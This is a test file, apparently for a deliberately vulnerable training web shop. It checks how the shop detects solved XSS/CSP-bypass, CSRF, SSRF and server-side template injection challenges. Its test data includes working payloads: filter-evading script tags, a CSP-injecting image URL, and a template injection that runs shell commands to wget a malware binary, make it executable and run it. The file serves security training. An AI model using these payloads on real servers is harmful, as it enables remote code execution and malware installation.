import request from 'supertest'
import { afterEach, describe, expect, it } from 'vitest'
import { loadConfig } from '../../config/load'
import { createTestShop } from '../../testing/test-app'
import { profileAttacks, MALWARE_SOLVE_PATH, serverSideRequestTemplate } from './profile.attacks'
import { eventually, JIM, sessionCookie, startShop, userRow, type RunningShop } from './profile.testing'

const XSS_SCRIPT = '<script>alert(`xss`)</script>'

let running: RunningShop | undefined
afterEach(async () => {
  await running?.close()
  running = undefined
})

describe('usernameXssChallenge (CSP Bypass)', () => {
  it('is solved by injecting the CSP through the image URL and smuggling a script past the username filter', async () => {
    const shop = createTestShop()
    const page = await profileAttacks.usernameXssChallenge(shop.app)
    expect(page.status).toBe(200)
    expect(page.headers['content-security-policy'])
      .toBe("img-src 'self' https://a.png; script-src 'unsafe-inline' 'self' 'unsafe-eval'; script-src 'self' 'unsafe-eval'")
    expect(page.text).toContain(`<div class="name">${XSS_SCRIPT}</div>`)
    expect(shop.ctx.training.isSolved('usernameXssChallenge')).toBe(true)
  })

  it('is not solved by the script alone: the CSP still forbids inline scripts', async () => {
    const shop = createTestShop()
    const cookie = await sessionCookie(shop)
    await request(shop.app).post('/profile').set('Cookie', cookie).type('form')
      .send({ username: '<<a|ascript>alert(`xss`)</script>' }).expect(302)
    const page = await request(shop.app).get('/profile').set('Cookie', cookie).expect(200)
    expect(page.headers['content-security-policy']).toContain("script-src 'self' 'unsafe-eval'")
    expect(shop.ctx.training.isSolved('usernameXssChallenge')).toBe(false)
  })

  it('is not solved by a plain script tag, which the filter breaks', async () => {
    const shop = createTestShop()
    const cookie = await sessionCookie(shop)
    await request(shop.app).post('/profile/image/url').set('Cookie', cookie).type('form')
      .send({ imageUrl: "https://a.png; script-src 'unsafe-inline'" }).expect(302)
    await request(shop.app).post('/profile').set('Cookie', cookie).type('form').send({ username: XSS_SCRIPT }).expect(302)
    const page = await request(shop.app).get('/profile').set('Cookie', cookie).expect(200)
    expect(page.text).not.toContain(XSS_SCRIPT)
    expect(shop.ctx.training.isSolved('usernameXssChallenge')).toBe(false)
  })
})

describe('csrfChallenge (CSRF)', () => {
  it('is solved by a form on the foreign page that changes the username with the victim\'s cookie', async () => {
    const shop = createTestShop()
    const response = await profileAttacks.csrfChallenge(shop.app)
    expect(response.headers.location).toBe('/profile')
    expect(shop.ctx.db.prepare("SELECT count(*) AS n FROM Users WHERE username = 'CSRFed'").get()).toEqual({ n: 1 })
    expect(shop.ctx.training.isSolved('csrfChallenge')).toBe(true)
  })

  it('is solved through the Referer when the browser sends no Origin', async () => {
    const shop = createTestShop()
    const cookie = await sessionCookie(shop)
    await request(shop.app).post('/profile').set('Cookie', cookie)
      .set('Referer', 'http://htmledit.squarefree.com/').type('form').send({ username: 'CSRFed' }).expect(302)
    expect(shop.ctx.training.isSolved('csrfChallenge')).toBe(true)
  })

  it('is solved through the Referer when a sandboxed form sends the Origin "null"', async () => {
    const shop = createTestShop()
    const cookie = await sessionCookie(shop)
    await request(shop.app).post('/profile').set('Cookie', cookie).set('Origin', 'null')
      .set('Referer', 'http://htmledit.squarefree.com/').type('form').send({ username: 'CSRFed' }).expect(302)
    expect(shop.ctx.training.isSolved('csrfChallenge')).toBe(true)
  })

  it('is not solved from a page of the shop whose query string merely names the foreign host', async () => {
    const shop = createTestShop()
    const cookie = await sessionCookie(shop)
    await request(shop.app).post('/profile').set('Cookie', cookie)
      .set('Referer', 'http://localhost:3000/profile?from=http://htmledit.squarefree.com/').type('form').send({ username: 'CSRFed' })
      .expect(302)
    expect(userRow(shop, JIM.email).username).toBe('CSRFed')
    expect(shop.ctx.training.isSolved('csrfChallenge')).toBe(false)
  })

  it('is not solved by the user changing their own name on the shop', async () => {
    const shop = createTestShop()
    const cookie = await sessionCookie(shop)
    await request(shop.app).post('/profile').set('Cookie', cookie)
      .set('Origin', 'http://localhost:3000').type('form').send({ username: 'Jim' }).expect(302)
    expect(shop.ctx.training.isSolved('csrfChallenge')).toBe(false)
  })

  it('is not solved from the foreign page when the username stays the same', async () => {
    const shop = createTestShop()
    const cookie = await sessionCookie(shop)
    const current = String(userRow(shop, JIM.email).username)
    await request(shop.app).post('/profile').set('Cookie', cookie)
      .set('Origin', 'http://htmledit.squarefree.com').type('form').send({ username: current }).expect(302)
    expect(shop.ctx.training.isSolved('csrfChallenge')).toBe(false)
  })

  it('works in a classroom with the csrf-local profile: a second local origin is the foreign page', async () => {
    const configured = loadConfig('csrf-local').challenges.overwriteUrlForCsrfChallenge
    expect(configured).toBe('http://127.0.0.1:3001')
    const shop = createTestShop({ challenges: { overwriteUrlForCsrfChallenge: configured } })
    const cookie = await sessionCookie(shop)
    await request(shop.app).post('/profile').set('Cookie', cookie)
      .set('Origin', 'http://127.0.0.1:3000').type('form').send({ username: 'mine' }).expect(302)
    expect(shop.ctx.training.isSolved('csrfChallenge')).toBe(false)
    await profileAttacks.csrfChallenge(shop.app)
    expect(shop.ctx.training.isSolved('csrfChallenge')).toBe(true)
  })
})

describe('ssrfChallenge (SSRF)', () => {
  it('is solved by making the server fetch its own secret solve URL as a profile image', async () => {
    running = await startShop()
    await profileAttacks.ssrfChallenge(running.url)
    expect(running.ctx.training.isSolved('ssrfChallenge')).toBe(true)
    // the 204 the server got back is stored as the (JPEG) picture
    const attacker = running.ctx.db.prepare('SELECT id, profileImage FROM Users ORDER BY id DESC LIMIT 1').get() as { id: number; profileImage: string }
    expect(attacker.profileImage).toBe(`/assets/public/images/uploads/${attacker.id}.jpg`)
  })

  it('needs the URL of a running shop, which it makes call itself', async () => {
    await expect(profileAttacks.ssrfChallenge(createTestShop().app)).rejects.toThrow(/needs the URL of a running shop/)
  })

  it('is not solved by linking an ordinary image, nor by calling the solve URL directly', async () => {
    running = await startShop()
    const cookie = await sessionCookie(running)
    await request(running.url).post('/profile/image/url').set('Cookie', cookie).type('form')
      .send({ imageUrl: `${running.url}/assets/public/images/pulp-logo.svg` }).expect(302)
    expect(userRow(running, JIM.email).profileImage).toBe('/assets/public/images/uploads/2.svg')
    const direct = await request(running.url).get(MALWARE_SOLVE_PATH)
    expect(direct.status).toBe(200) // no abuse pending: the web app answers
    expect(running.ctx.training.isSolved('ssrfChallenge')).toBe(false)
  })
})

describe('sstiChallenge (SSTi)', () => {
  const viewProfileWithUsername = async (shop: RunningShop, username: string) => {
    const cookie = await sessionCookie(shop)
    await request(shop.url).post('/profile').set('Cookie', cookie).type('form').send({ username }).expect(302)
    return request(shop.url).get('/profile').set('Cookie', cookie)
  }

  it('is solved by a username template that makes the server request the solve URL', async () => {
    running = await startShop()
    expect(serverSideRequestTemplate(running.url)).toBe(`#{global.process.mainModule.require('http').get('${running.url}${MALWARE_SOLVE_PATH}')}`)
    const page = await profileAttacks.sstiChallenge(running.url)
    expect(page.text).toContain('<div class="name">')
    expect(running.ctx.training.isSolved('sstiChallenge')).toBe(true)
  })

  it('is solved by the intended payload that downloads and runs the juicy malware (simulated offline)', async () => {
    running = await startShop()
    const download = 'wget -O malware https://github.com/J12934/juicy-malware/blob/master/juicy_malware_linux_amd_64?raw=true'
    const page = await viewProfileWithUsername(running,
      `#{global.process.mainModule.require('child_process').exec('${download} && chmod +x malware && ./malware ${running.url}')}`)
    expect(page.status).toBe(200)
    const shop = running
    expect(await eventually(() => shop.ctx.training.isSolved('sstiChallenge'))).toBe(true)
    expect(shop.ctx.training.isSolved('ssrfChallenge')).toBe(false)
  })

  it('is not solved by a harmless template, whose result is shown', async () => {
    running = await startShop()
    const page = await viewProfileWithUsername(running, '#{6*7}')
    expect(page.status).toBe(200)
    expect(page.text).toContain('<div class="name">42</div>')
    await new Promise((resolve) => setTimeout(resolve, 200))
    expect(running.ctx.training.isSolved('sstiChallenge')).toBe(false)
  })
})
